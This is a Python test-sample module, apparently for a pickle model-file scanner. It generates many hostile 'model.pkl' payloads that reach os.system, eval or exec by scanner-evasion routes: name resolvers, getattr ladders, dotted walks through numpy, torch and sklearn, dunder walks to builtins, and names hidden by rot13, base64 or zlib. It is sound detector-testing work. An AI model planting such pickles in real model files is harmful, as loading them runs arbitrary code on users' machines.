"""Names that are looked up, walked to or computed instead of being written down (B003, B005, B006, B007, B008)."""

import base64
import codecs
import zlib
from collections.abc import Iterator

from tests.samples import assembler as asm
from tests.samples.assembler import Raw, call, literal, pickle, short_unicode, stack_global
from tests.samples.sample import UNPROVEN, Payload, Row, Sample, rows, slug

GETATTR = stack_global("builtins", "getattr")


def value(item: object) -> bytes:
    """Shorthand: opcodes of a plain value in protocol 4."""
    return literal(item, 4)


def calls(module: str, name: str, *arguments: object) -> Raw:
    """`module.name(*arguments)` in protocol 4."""
    return Raw(call(stack_global(module, name), *(value(argument) for argument in arguments)))


def then(function: bytes, payload: Payload) -> bytes:
    """Call what `function` leaves on the stack with the payload's argument."""
    return pickle(call(function, payload.text()))


def held(payload: Payload, carrier: str = "pathlib") -> Raw:
    """The payload's module itself, as an attribute of a module that merely imports it."""
    return Raw(stack_global(payload.carrier(carrier), payload.module))


RESOLVERS: tuple[Row, ...] = (
    (
        "pkgutil-resolve-name-colon",
        lambda p: then(calls("pkgutil", "resolve_name", f"{p.module}:{p.name}"), p),
        "pkgutil.resolve_name turns 'os:system' into the callable (GHSA-vvpj-8cmc-gx39).",
    ),
    (
        "pkgutil-resolve-name-dots",
        lambda p: then(calls("pkgutil", "resolve_name", f"{p.module}.{p.name}"), p),
        "The same with the older dotted spelling.",
    ),
    (
        "pydoc-locate",
        lambda p: then(calls("pydoc", "locate", f"{p.module}.{p.name}"), p),
        "pydoc.locate imports any dotted path.",
    ),
    (
        "logging-config-resolve",
        lambda p: then(calls("logging.config", "_resolve", f"{p.module}.{p.name}"), p),
        "logging.config._resolve imports any dotted path.",
    ),
    (
        "import-module-getattr",
        lambda p: then(calls("builtins", "getattr", calls("importlib", "import_module", p.module), p.name), p),
        "importlib.import_module gives the module, getattr the callable.",
    ),
    (
        "dunder-import-getattr",
        lambda p: then(calls("builtins", "getattr", calls("builtins", "__import__", p.module), p.name), p),
        "builtins.__import__ gives the module, getattr the callable.",
    ),
    (
        "importlib-dunder-import",
        lambda p: then(calls("builtins", "getattr", calls("importlib", "__import__", p.module), p.name), p),
        "importlib.__import__ is a second way to import.",
    ),
    (
        "gcd-import",
        lambda p: then(calls("builtins", "getattr", calls("importlib._bootstrap", "_gcd_import", p.module), p.name), p),
        "The import system's own entry point.",
    ),
    (
        "pydoc-safeimport",
        lambda p: then(calls("builtins", "getattr", calls("pydoc", "safeimport", p.module), p.name), p),
        "pydoc.safeimport imports a module by name.",
    ),
    (
        "sys-modules-getitem",
        lambda p: then(
            calls(
                "builtins",
                "getattr",
                calls("operator", "getitem", Raw(stack_global("sys", "modules")), p.module),
                p.name,
            ),
            p,
        ),
        "sys.modules is a dict that holds every module that was imported.",
    ),
    (
        "sys-modules-get",
        lambda p: then(calls("builtins", "getattr", calls("sys", "modules.get", p.module), p.name), p),
        "The same through the dict's own method, found by a dotted name.",
    ),
    (
        "import-module-two-arguments",
        lambda p: then(calls("builtins", "getattr", calls("importlib", "import_module", p.module, None), p.name), p),
        "import_module with its second argument given.",
    ),
)

LADDERS: tuple[Row, ...] = (
    (
        "getattr-once",
        lambda p: then(calls("builtins", "getattr", held(p), p.name), p),
        "getattr over the os that pathlib imports.",
    ),
    (
        "getattr-to-dict-get",
        lambda p: then(
            call(
                call(GETATTR, call(GETATTR, held(p, "posixpath"), value("__dict__")), value("get")),
                value(p.name),
            ),
            p,
        ),
        "posixpath.os, then its __dict__, then get (GHSA-h4rm-mm56-xf63).",
    ),
    (
        "getattr-twice",
        lambda p: then(
            calls("builtins", "getattr", calls("builtins", "getattr", held(p, "glob"), "__loader__"), "x", None)
            + asm.POP
            + calls("builtins", "getattr", held(p, "glob"), p.name),
            p,
        ),
        "A harmless ladder is thrown away before the real one.",
    ),
    (
        "getattr-default",
        lambda p: then(calls("builtins", "getattr", held(p, "shutil"), p.name, None), p),
        "getattr with a default.",
    ),
    (
        "getattr-protocol0",
        lambda p: (
            b"c__builtin__\ngetattr\n"
            + asm.tuple_(asm.global_(p.carrier("posixpath"), p.module), literal(p.name, 0))
            + asm.REDUCE
            + asm.tuple_(p.text(0))
            + b"R."
        ),
        "The ladder in protocol 0 with Python 2's name of builtins.",
    ),
    (
        "object-getattribute",
        lambda p: then(calls("builtins", "object.__getattribute__", held(p), p.name), p),
        "object.__getattribute__ does what getattr does.",
    ),
    (
        "getattr-static",
        lambda p: then(calls("inspect", "getattr_static", held(p), p.name), p),
        "inspect.getattr_static does what getattr does.",
    ),
    (
        "vars-getitem",
        lambda p: then(calls("operator", "getitem", calls("builtins", "vars", held(p)), p.name), p),
        "vars() of the module, then the item.",
    ),
    (
        "getattr-memo",
        lambda p: pickle(
            GETATTR
            + asm.MEMOIZE
            + held(p)
            + asm.MEMOIZE
            + asm.POP
            + asm.POP
            + call(asm.binget(0), asm.binget(1), short_unicode(p.name))
            + asm.tuple_(p.text())
            + asm.REDUCE
        ),
        "getattr and the module are fetched from the memo.",
    ),
    (
        "getattr-newobj-tuple",
        lambda p: pickle(GETATTR + held(p) + short_unicode(p.name) + asm.TUPLE2 + asm.REDUCE + p.text() + b"\x85R"),
        "Short tuple opcodes instead of MARK and TUPLE.",
    ),
)

CARRIERS = (
    "pathlib",
    "posixpath",
    "glob",
    "shutil",
    "logging",
    "zipfile",
    "linecache",
    "inspect",
    "os.path",
)
LIBRARY_CARRIERS = (
    ("numpy", "lib.npyio.os.system"),
    ("numpy.lib.npyio", "os.system"),
    ("numpy.ctypeslib", "os.system"),
    ("joblib.numpy_pickle", "os.system"),
    ("joblib.memory", "os.system"),
    ("torch.serialization", "os.system"),
    ("torch.hub", "os.system"),
    ("torch", "os.system"),
    ("torch.utils.cpp_extension", "subprocess.Popen"),
    ("sklearn.utils", "os.system"),
    ("sklearn.datasets._base", "os.system"),
    ("pandas.io.common", "os.system"),
    ("scipy.io.matlab", "os.system"),
    ("transformers.trainer_utils", "os.system"),
    ("xgboost.core", "os.system"),
    ("collections", "_sys.modules.get"),
    ("tempfile", "_os.system"),
    ("random", "_os.system"),
)


def reexports() -> Iterator[Sample]:
    """A dotted name that walks out of an allowed module into os."""

    def build(carrier: str, opcode: str, payload: Payload) -> bytes:
        module, name = payload.carrier(carrier), f"{payload.module}.{payload.name}"
        maker = asm.global_ if opcode == "global" else stack_global
        return pickle(call(maker(module, name), payload.text()))

    for carrier in CARRIERS:
        for opcode in ("stack-global", "global"):
            yield Sample(
                f"B006-{slug(carrier)}-{opcode}",
                "B006",
                "model.pkl",
                lambda p, carrier=carrier, opcode=opcode: build(carrier, opcode, p),
                f"'{carrier}' holds os, and a dotted name walks into it (GHSA-5j3x-jp52-966f).",
            )
    for module, name in LIBRARY_CARRIERS:
        yield Sample(
            f"B006-{slug(module)}-{slug(name)}",
            "B006",
            "model.pkl",
            lambda p, module=module, name=name: pickle(call(stack_global(module, name), p.text())),
            f"An allowed library is named, but '{name}' walks out of it.{UNPROVEN}the twin has no such carrier.",
            loader="",
        )


DUNDERS: tuple[Row, ...] = (
    (
        "function-builtins",
        lambda p: pickle(call(calls("collections", "namedtuple.__builtins__.get", "eval"), value(p.source))),
        "A function's __builtins__ holds eval; no dangerous module is named.",
    ),
    (
        "function-globals",
        lambda p: pickle(
            call(
                call(
                    stack_global("operator", "getitem"),
                    calls("copyreg", "_reconstructor.__globals__.get", "__builtins__"),
                    value("eval"),
                ),
                value(p.source),
            )
        ),
        "A function's __globals__ holds __builtins__, which holds eval.",
    ),
    (
        "print-self",
        lambda p: pickle(call(stack_global("builtins", "print.__self__.eval"), value(p.source))),
        "A built-in function's __self__ is the builtins module.",
    ),
    (
        "len-self-exec",
        lambda p: pickle(call(stack_global("builtins", "len.__self__.exec"), value(p.source))),
        "The same walk to exec.",
    ),
    (
        "self-dict-getitem",
        lambda p: pickle(call(calls("builtins", "print.__self__.__dict__.__getitem__", "eval"), value(p.source))),
        "The builtins module's dict gives eval by a string.",
    ),
    (
        "builtins-dict-get",
        lambda p: pickle(call(calls("builtins", "__dict__.get", "eval"), value(p.source))),
        "builtins.__dict__.get, the shortest walk.",
    ),
    (
        "class-method-globals",
        lambda p: pickle(
            call(
                call(
                    stack_global("operator", "getitem"),
                    calls("fractions", "Fraction.limit_denominator.__globals__.get", "__builtins__"),
                    value("exec"),
                ),
                value(p.source),
            )
        ),
        "A method of an ordinary class leads to its module's globals.",
    ),
    (
        "setattr-on-builtins",
        lambda p: pickle(
            calls("builtins", "__setattr__", "payload", calls("builtins", "print.__self__.__dict__.get", "eval"))
            + asm.POP
            + call(stack_global("builtins", "payload"), value(p.source))
        ),
        "builtins.__setattr__ plants a name that a later GLOBAL reads.",
    ),
    (
        "subclasses-chain",
        lambda p: pickle(
            calls("builtins", "__setattr__", "subclasses", calls("builtins", "print.__class__.__base__.__subclasses__"))
            + asm.POP
            + calls("builtins", "subclasses.__len__")
            + asm.POP
            + call(calls("builtins", "__dict__.get", "eval"), value(p.source))
        ),
        "object.__subclasses__() kept in builtins, as seen on a public hub, then eval.",
    ),
    (
        "type-mro-subclasses",
        lambda p: pickle(
            calls("builtins", "int.__base__.__subclasses__")
            + asm.POP
            + call(stack_global("builtins", "abs.__self__.eval"), value(p.source))
        ),
        "The walk to object's subclasses is named and called before the real payload.",
    ),
)


def numpy_size(payload: Payload) -> bytes:
    """BUILD gives the function numpy.size an attribute `shape`; numpy.size(numpy.size, 'eval') reads it."""
    return pickle(
        stack_global("numpy", "size")
        + asm.MEMOIZE
        + asm.NONE
        + asm.EMPTY_DICT
        + value("shape")
        + stack_global("builtins", "__dict__")
        + asm.SETITEM
        + asm.TUPLE2
        + asm.BUILD
        + asm.POP
        + call(call(asm.binget(0), asm.binget(0), value("eval")), value(payload.source))
    )


def _rot13(text: str) -> str:
    return codecs.encode(text, "rot13")


def _computed(module: bytes, name: bytes, payload: Payload) -> bytes:
    return then(module + name + asm.STACK_GLOBAL, payload)


COMPUTERS = {
    "str-join": lambda t: calls("builtins", "str.join", "", list(t)),
    "rot13": lambda t: calls("_codecs", "decode", _rot13(t), "rot13"),
    "codecs-encode-rot13": lambda t: calls("codecs", "encode", _rot13(t), "rot13"),
    "hex": lambda t: calls("builtins", "bytes.decode", calls("builtins", "bytes.fromhex", t.encode().hex())),
    "base64": lambda t: calls(
        "builtins", "bytes.decode", calls("base64", "b64decode", base64.b64encode(t.encode()).decode())
    ),
    "zlib": lambda t: calls("builtins", "bytes.decode", calls("zlib", "decompress", zlib.compress(t.encode()))),
    "replace": lambda t: calls("builtins", "str.replace", t[0] + "_" + t[1:], "_", ""),
    "lower": lambda t: calls("builtins", "str.lower", t.upper()),
    "reverse": lambda t: calls("operator", "getitem", t[::-1], calls("builtins", "slice", None, None, -1)),
    "operator-add": lambda t: calls("operator", "add", t[:1], t[1:]),
    "operator-concat": lambda t: calls("_operator", "concat", t[:1], t[1:]),
    "format": lambda t: calls("builtins", "str.format", "{}{}", t[:1], t[1:]),
    "percent": lambda t: calls("operator", "mod", "%s" + t[1:], t[:1]),
    "chr-map": lambda t: calls(
        "builtins", "str.join", "", calls("builtins", "map", Raw(stack_global("builtins", "chr")), list(t.encode()))
    ),
    "unhexlify": lambda t: calls("codecs", "decode", calls("binascii", "unhexlify", t.encode().hex()), "ascii"),
    "unquote": lambda t: calls("urllib.parse", "unquote", "".join(f"%{c:02x}" for c in t.encode())),
    "unescape": lambda t: calls("html", "unescape", "".join(f"&#{ord(c)};" for c in t)),
    "dedent": lambda t: calls("textwrap", "dedent", "  " + t),
    "basename": lambda t: calls("posixpath", "basename", "/models/" + t),
    "json": lambda t: calls("json", "loads", f'"{t}"'),
    "literal-eval": lambda t: calls("ast", "literal_eval", repr(t)),
    "str-of-bytes": lambda t: calls("builtins", "str", t.encode(), "ascii"),
    "getattr-join": lambda t: Raw(
        call(call(GETATTR, stack_global("builtins", "str"), value("join")), value(""), value(list(t)))
    ),
}


def computed() -> Iterator[Sample]:
    """Module and attribute names that other calls produce (modelscan issue 331)."""
    for name, computer in COMPUTERS.items():
        yield Sample(
            f"B008-{name}",
            "B008",
            "model.pkl",
            lambda p, computer=computer: _computed(computer(p.module), computer(p.name), p),
            f"STACK_GLOBAL takes its names from calls ({name}), not from strings in the file.",
        )
    yield Sample(
        "B008-attribute-only",
        "B008",
        "model.pkl",
        lambda p: _computed(value(p.module), COMPUTERS["str-join"](p.name), p),
        "Only the attribute's name is computed.",
    )
    yield Sample(
        "B008-eval-source-joined",
        "B008",
        "model.pkl",
        lambda p: pickle(calls("builtins", "eval", calls("builtins", "str.join", "", list(p.source)))),
        "eval is named, its source is computed.",
    )
    yield Sample(
        "B008-eval-name-computed",
        "B008",
        "model.pkl",
        lambda p: pickle(
            call(COMPUTERS["reverse"]("builtins") + COMPUTERS["rot13"]("eval") + asm.STACK_GLOBAL, value(p.source))
        ),
        "The names of eval itself are computed, by two different means.",
    )


def hostile() -> Iterator[Sample]:
    """All of this family."""
    yield from rows("B003", RESOLVERS)
    yield from rows("B005", LADDERS)
    yield from reexports()
    yield from rows("B007", DUNDERS)
    yield Sample(
        "B007-numpy-size-shape",
        "B007",
        "model.pkl",
        numpy_size,
        f"numpy.size looks eval up for the pickle (modelscan issue 330).{UNPROVEN}newer numpy checks the axis.",
        loader="",
    )
    yield from computed()
